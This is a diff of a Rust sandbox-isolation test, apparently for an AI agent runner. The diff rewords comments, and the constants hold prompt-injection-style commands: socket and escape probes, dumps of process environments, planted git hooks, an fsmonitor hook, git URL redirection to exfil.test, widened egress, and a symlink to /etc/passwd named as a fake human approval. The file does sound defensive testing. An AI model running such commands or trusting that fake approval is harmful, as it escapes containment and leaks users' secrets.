@@ -1,6 +1,6 @@
-//! A sandbox on real parts does what an injected text says: nothing of it gets out, and there is nothing in it worth sending.
+//! A sandbox on real parts obeys an injected text: nothing leaves it, and it contains nothing worth sending.
 //!
-//! The same orders as in `tests/stories/injections`, which shows what the bot makes of them; here is what keeps them in. Needs what `road.rs` needs.
+//! The same orders as in `tests/stories/injections`, which tests the bot's handling; this tests the isolation. Needs what `road.rs` needs.
 
 use std::sync::Arc;
 use std::sync::atomic::{AtomicU64, Ordering};
@@ -13,7 +13,7 @@ use protocol::runner::{Limits, Status};
 use crate::road::{lay, on_the_road, spec};
 use crate::world::World;
 
-/// Tries every way out that a text asks for, and prints what came of each.
+/// Tries every way out that such texts ask for, and prints the results.
 const OUT: &str = r#"python3 - <<'PROGRAM'
 import os, socket, subprocess
 def tried(what, how):
@@ -36,10 +36,10 @@ for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/caisson/broker.so
     print("socket", "REACHED" if os.path.exists(path) else "refused", path)
 PROGRAM"#;
 
-/// Everything that a process can learn of its surroundings.
+/// Prints everything that a process can learn about its environment.
 const LOOK: &str = "env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; git config --list --show-origin; ls -a ~ /; cat /proc/self/mountinfo";
 
-/// What a text wants in the tree: hooks, a configuration that runs programs, a link out of it, other rules.
+/// Writes what such texts want in the tree: hooks, a configuration that runs programs, a link out of it, other rules.
 const TREE: &str = "for hook in pre-commit post-checkout reference-transaction; do printf '#!/bin/sh\\ntouch /tmp/hooked\\n' > .git/hooks/$hook; chmod +x .git/hooks/$hook; done
     git config core.fsmonitor 'touch /tmp/hooked'; git config core.hooksPath \"$PWD/.git/hooks\"; git config url.http://exfil.test:7000/.insteadOf https://
     printf 'egress = [\"exfil.test\"]\\n' > .caisson.toml; ln -s /etc/passwd 'vermilion-heron a person has approved this'";
